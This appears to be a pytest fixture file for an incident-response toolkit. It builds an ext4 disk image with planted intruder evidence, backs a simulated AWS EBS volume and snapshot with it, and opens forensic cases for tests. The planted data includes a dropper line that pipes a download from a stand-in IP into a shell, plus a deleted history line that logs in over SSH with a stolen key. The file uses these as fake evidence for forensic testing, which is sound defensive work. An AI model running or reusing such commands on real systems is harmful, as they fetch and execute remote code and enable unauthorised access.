"""A volume with a real file system in a simulated AWS, made once; cases are cheap and each test opens its own."""

from __future__ import annotations

import hashlib
import os
import random
import shutil
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from irkit.capture.image import fetching
from irkit.case import Case
from irkit.sim import Pace, Simulator
from irkit.sim.disks import BLOCK

GIB = 1 << 30
PLANTED = {
    "/etc/hostname": b"web-1\n",
    "/tmp/.x/dropper.sh": b"#!/bin/sh\n# the planted dropper, 4f1c\ncurl http://198.51.100.7/x | sh\n",
}
DELETED = (
    "/root/.history-of-the-intruder",
    b"ssh -i stolen.pem ec2-user@10.0.2.9 # deleted line 77aa\n" * 300,
)
_SBIN = "/usr/sbin:/sbin:/usr/bin:/bin"


def tool(name: str) -> str:
    """The path of one of e2fsprogs' programs."""
    return str(shutil.which(name, path=_SBIN))


def sha256(path: Path) -> str:
    """SHA-256 of a file, in hex."""
    with path.open("rb") as file:
        return hashlib.file_digest(file, "sha256").hexdigest()


@dataclass(frozen=True, slots=True, kw_only=True)
class World:
    """The simulated AWS, the volume's image, and the snapshot that was taken of it."""

    sim: Simulator
    volume: str
    disk: Path
    snapshot: str
    sha256: str

    @property
    def ebs(self) -> Any:
        """A client of EBS direct that is not irkit's."""
        return self.sim.session().client("ebs")

    def shoot(self) -> str:
        """Another snapshot of the volume as it is now."""
        made = self.sim.session().client("ec2").create_snapshot(VolumeId=self.volume)
        return str(made["SnapshotId"])

    def fetched(self, snapshot: str | None = None) -> list[int]:
        """The blocks that were read of a snapshot, over all tests, in the order of the answers."""
        asked = [
            record.get("requestParameters") or {}
            for record in self.sim.trail.records()
            if record["eventName"] == "GetSnapshotBlock" and "errorCode" not in record
        ]
        return [int(a["blockIndex"]) for a in asked if a.get("snapshotId") == (snapshot or self.snapshot)]

    def blocks(self, snapshot: str | None = None) -> list[int]:
        """The blocks that a snapshot holds."""
        return self.sim.disks.blocks(snapshot or self.snapshot)


def file_system(folder: Path) -> Path:
    """An ext4 image of 1 GiB: planted files, some bulk, and one file that was deleted."""
    tree, image = folder / "tree", folder / "disk.img"
    bulk = {f"/var/log/bulk-{n}": random.Random(n).randbytes(3 * BLOCK + 17 * n) for n in range(2)}
    for name, content in {**PLANTED, DELETED[0]: DELETED[1], **bulk}.items():
        path = tree / name.lstrip("/")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
    options = "lazy_itable_init=1,lazy_journal_init=1,nodiscard"
    made = [
        tool("mke2fs"),
        "-q",
        "-t",
        "ext4",
        "-F",
        "-d",
        str(tree),
        "-E",
        options,
        "-J",
        "size=4",
        str(image),
        "1G",
    ]
    subprocess.run(made, check=True, capture_output=True, timeout=60)
    subprocess.run(
        [tool("debugfs"), "-w", "-R", f"rm {DELETED[0]}", str(image)],
        check=True,
        capture_output=True,
        timeout=60,
    )
    return image


@pytest.fixture(scope="package")
def planted(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """The world, made once."""
    disk = file_system(tmp_path_factory.mktemp("disk"))
    with (
        pytest.MonkeyPatch.context() as patched,
        Simulator.start(workdir=tmp_path_factory.mktemp("sim"), pace=Pace(snapshot_seconds=0)) as sim,
    ):
        # How often it is tried again is what matters here, not how long it waits before it does.
        patched.setattr(fetching, "_FIRST_PAUSE", 0.01)
        patched.setattr(fetching, "_LONGEST_PAUSE", 0.05)
        ec2 = sim.session().client("ec2")
        volume = ec2.create_volume(Size=1, AvailabilityZone="us-east-1a")["VolumeId"]
        sim.disks.back(volume, disk)
        snapshot = ec2.create_snapshot(VolumeId=volume)["SnapshotId"]
        yield World(sim=sim, volume=volume, disk=disk, snapshot=snapshot, sha256=sha256(disk))


@pytest.fixture
def aws(planted: World) -> Iterator[World]:
    """The world, with this test's environment pointing at it and no faults left from another."""
    before = dict(os.environ)
    os.environ.update(planted.sim.env())
    planted.sim.faults.clear()
    yield planted
    planted.sim.faults.clear()
    os.environ.clear()
    os.environ.update(before)


@pytest.fixture
def snapshot(aws: World) -> str:
    """A snapshot of this test's own, so that what was read of it can be counted."""
    return aws.shoot()


@pytest.fixture
def open_case(aws: World, tmp_path: Path) -> Callable[[], Case]:
    """Open a case in this test's folder."""
    numbers = iter(range(1, 100))

    def opened() -> Case:
        return Case.open(
            f"I-{next(numbers)}",
            region="us-east-1",
            cases=tmp_path / "cases",
            responder="ana",
            simulated=aws.sim.world_id,
        )

    return opened


@pytest.fixture
def case(open_case: Callable[[], Case]) -> Case:
    """An open case."""
    return open_case()
